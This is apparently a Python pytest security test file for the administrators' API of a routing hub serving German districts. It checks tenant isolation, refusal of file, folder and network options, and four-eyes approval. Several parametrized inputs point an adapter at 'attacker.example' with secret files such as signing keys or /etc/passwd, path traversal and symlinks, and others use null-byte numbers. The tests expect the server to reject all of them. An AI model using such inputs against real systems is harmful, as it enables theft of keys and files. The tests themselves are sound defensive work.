"""Attacks on the administrators' API: across tenants, on the hub's own files, and around the second person."""

from __future__ import annotations

from typing import Any

import pytest
from stage import BAUEN, TAUNUSSTEIN, WIESBADEN

#: walter administers Wiesbaden (06414), doris the Rheingau-Taunus-Kreis (06439).
DORIS_AREA = "064390008008"
DISTRICT = "0f4d7a52-6a3c-4f0e-9d6b-3c1f5e8a6439"
TOWN = "7b1c9e04-2d58-4c7a-8f31-5a9e0c406414"
UNKNOWN = "00000000-0000-4000-8000-000000000000"


def rule(area: str, to: str = TOWN, **more: Any) -> dict[str, Any]:
    return {"area": area, "services": [BAUEN], "destination": to, **more}


def drafted(person: Any, **more: Any) -> tuple[str, str]:
    made = person.post("/routes/versions", **more)
    assert made.status_code == 201, made.text
    return f"/routes/versions/{made.json()['number']}", made.headers["ETag"]


def slug(answer: Any) -> str:
    return answer.json()["type"].rpartition(":")[2]


# Foreign tenants (IDOR): what lies outside does not exist


@pytest.mark.parametrize("path", ["", "/keys/x/activate", "/keys/x/retire", "/circuit/close"])
def test_a_foreign_destination_answers_like_one_that_does_not_exist(office, path):
    walter = office.as_("walter")
    method = "POST" if path else "GET"
    answers = [walter.call(method, f"/destinations/{each}{path}") for each in (DISTRICT, UNKNOWN)]
    assert [answer.status_code for answer in answers] == [404, 404]
    assert answers[0].json()["detailEn"].replace(DISTRICT, UNKNOWN) == answers[1].json()["detailEn"]


def test_a_foreign_destination_cannot_be_changed(office):
    walter = office.as_("walter")
    assert walter.amend(f"/destinations/{DISTRICT}", status="inactive").status_code == 404
    assert office.stage.hub.store.parties.destination(office.stage.destination_id("Rheingau")).status == "active"
    listed = {each["destinationId"] for each in walter.get("/destinations").json()["destinations"]}
    assert DISTRICT not in listed
    assert TOWN in listed


def test_foreign_clients_are_neither_seen_nor_touched_nor_made(office):
    doris, walter = office.as_("doris"), office.as_("walter")
    client = doris.post("/clients", json={"kind": "sender", "name": "Kreis-Portal"}).json()
    assert client["tenant"] == "06439"
    assert client["clientId"] not in walter.get("/clients", params={"limit": 500}).text
    for method, path in (("GET", ""), ("POST", "/rotate"), ("POST", "/disable")):
        answer = walter.change(
            method, f"/clients/{client['clientId']}{path}", doris.tag(f"/clients/{client['clientId']}")
        )
        assert answer.status_code == 404
    for tenant in ("06439", "06", "0"):
        refused = walter.post("/clients", json={"kind": "sender", "name": "x", "tenant": tenant})
        assert (refused.status_code, slug(refused)) == (403, "outside-tenant")
    assert doris.get(f"/clients/{client['clientId']}").json()["disabledAt"] is None


def test_a_district_changes_no_foreign_rule_whichever_way(office):
    walter = office.as_("walter")
    path, tag = drafted(walter)
    foreign = next(
        each
        for each in office.as_("erika").get(f"{path}/rules", params={"limit": 500}).json()["rules"]
        if each["area"] == "06439"
    )
    ways = [
        walter.change("PUT", f"{path}/rules/neu", tag, json=rule(DORIS_AREA)),
        walter.change("PUT", f"{path}/rules/{foreign['id']}", tag, json=rule(WIESBADEN)),
        walter.change("PUT", f"{path}/rules/neu", tag, json=rule("06")),
        walter.change("PUT", f"{path}/rules", tag, json={"rules": [rule(DORIS_AREA, id="neu")]}),
        walter.post("/routes/versions", json={"rules": [rule(DORIS_AREA, id="neu")]}),
        walter.post("/routes/versions", json={"rules": [{**foreign, "destination": TOWN}]}),
    ]
    assert [(answer.status_code, slug(answer)) for answer in ways] == [(403, "outside-tenant")] * len(ways)
    assert walter.change("DELETE", f"{path}/rules/{foreign['id']}", tag).status_code == 404
    taken = walter.post("/routes/versions", json={"rules": [rule(WIESBADEN, id=foreign["id"])]})
    assert (taken.status_code, slug(taken)) == (409, "already-exists")


def test_a_district_uploads_its_own_rules_alone_and_others_stay(office):
    walter = office.as_("walter")
    own = walter.get("/routes/versions/1/export", params={"format": "csv"}).content
    assert b"DE06414" in own
    assert b"DE06439" not in own
    path, _ = drafted(walter, data=own, headers={"Content-Type": "text/csv"})
    assert office.as_("erika").get(f"{path}/diff").json()["count"] == 0


def test_a_district_sees_of_a_foreign_draft_what_concerns_it(office):
    erika, walter, doris = office.as_("erika"), office.as_("walter"), office.as_("doris")
    path, tag = drafted(erika)
    erika.change("PUT", f"{path}/rules/nur-fuer-doris", tag, json=rule(TAUNUSSTEIN, note="Vertraulich"))
    for view in ("/rules?limit=500", "/export", "/export?format=csv", "/findings", "/diff?days=30"):
        assert "nur-fuer-doris" not in walter.get(f"{path}{view}").text, view
        assert "Vertraulich" not in walter.get(f"{path}{view}").text, view
    assert "nur-fuer-doris" in doris.get(f"{path}/rules?limit=500").text
    assert walter.get(f"{path}/diff").json()["count"] == 0
    assert doris.get(f"{path}/diff").json()["changedRules"] == 1


def test_a_district_neither_approves_nor_activates_nor_discards_what_changes_others(office):
    erika, walter, anton = office.as_("erika"), office.as_("walter"), office.as_("anton")
    path, tag = drafted(erika)
    tag = erika.change("PUT", f"{path}/rules/idstein-bau", tag, json=rule(DORIS_AREA, DISTRICT)).headers["ETag"]
    for verb in ("approve", "discard"):
        answer = walter.change("POST", f"{path}/{verb}", tag, json={"text": "von mir"})
        assert (answer.status_code, slug(answer)) == (403, "outside-tenant")
    assert anton.change("POST", f"{path}/approve", tag, json={"text": "gelesen"}).status_code == 200
    assert slug(walter.post(f"{path}/activate")) == "outside-tenant"
    anton.post(f"{path}/activate")
    assert slug(walter.post("/routes/rollback", json={"text": "zurück"})) == "outside-tenant"


def test_a_dry_run_counts_only_the_own_submissions(office):
    office.stage.accept()
    walter, doris = office.as_("walter"), office.as_("doris")
    path, _ = drafted(office.as_("erika"))
    assert walter.get(f"{path}/diff?days=30").json()["submissions"]["total"] == 0
    assert doris.get(f"{path}/diff?days=30").json()["submissions"]["total"] == 1


def test_a_machine_stays_within_its_tenant(office):
    machine = office.machine(tenant="06414")
    path, tag = drafted(machine)
    assert machine.change("PUT", f"{path}/rules/neu", tag, json=rule(DORIS_AREA)).status_code == 403
    assert machine.get(f"/destinations/{DISTRICT}").status_code == 404


def test_a_token_never_outgrows_its_account(office):
    """Rights are read from the account at each request, not from the token."""
    walter = office.as_("walter")
    assert walter.get("/clients").status_code == 200
    office.accounts.disable("walter", actor="cli:test", now=office.stage.clock())
    assert walter.get("/clients").status_code == 401


# The hub's own files and network


@pytest.mark.parametrize(
    "options",
    [
        {"url": "https://attacker.example/", "secret_file": "{data}/pki/signing.json"},
        {"url": "https://attacker.example/", "ca_file": "/etc/passwd"},
        {"url": "https://attacker.example/", "secret_file": "{data}/secrets/../pki/signing.json"},
        {"url": "https://attacker.example/", "secret_file": "secrets/key"},
        {"url": "https://attacker.example/", "secret_file": "{data}/secrets/link"},
    ],
)
def test_no_option_makes_the_hub_send_its_own_files_away(office, options):
    secrets = office.stage.data / "secrets"
    secrets.mkdir()
    (secrets / "link").symlink_to(office.stage.data / "pki")
    named = {name: value.format(data=office.stage.data) for name, value in options.items()}
    answer = office.as_("otto").amend(f"/destinations/{DISTRICT}", adapter={"name": "https", "options": named})
    assert (answer.status_code, slug(answer)) == (403, "option-not-allowed")
    assert str(office.stage.data) not in answer.text


def test_no_option_makes_the_hub_write_into_its_own_folders(office):
    for path in (office.stage.data / "pki", office.stage.data / "blobs", "/etc"):
        adapter = {"name": "folder", "options": {"path": str(path)}}
        answer = office.as_("otto").amend(f"/destinations/{DISTRICT}", adapter=adapter)
        assert slug(answer) == "option-not-allowed", path


@pytest.mark.parametrize("switch", ["allow_private_addresses", "allow_http"])
def test_the_switches_that_open_the_own_network_are_not_for_the_api(office, switch):
    adapter = {"name": "sftp", "options": {"host": "10.0.0.1", switch: True}}
    answer = office.as_("otto").amend(f"/destinations/{DISTRICT}", adapter=adapter)
    assert slug(answer) == "option-not-allowed"


# Around the second person


def test_a_key_change_by_patch_goes_round_nobody(office):
    answer = office.as_("otto").amend(f"/destinations/{DISTRICT}", encryptionKid="mine")
    assert answer.status_code == 400


def test_a_person_with_two_tokens_is_one_person(office):
    one, two = office.as_("berta"), office.as_("berta")
    path, tag = drafted(one)
    answer = two.change("POST", f"{path}/approve", tag, json={"text": "passt"})
    assert slug(answer) == "second-person"


def test_an_account_cannot_take_a_machines_name(office):
    with pytest.raises(Exception, match="account's name"):
        office.accounts.add("client:1", office.password, roles=(), actor="cli:test", now=office.stage.clock())


def test_numbers_that_fit_no_database_are_refused(office):
    erika = office.as_("erika")
    for number in ("-1", "99999999999999999999", "1e3", "0x1", "%31%00"):
        assert erika.get(f"/routes/versions/{number}").status_code in {400, 404}, number
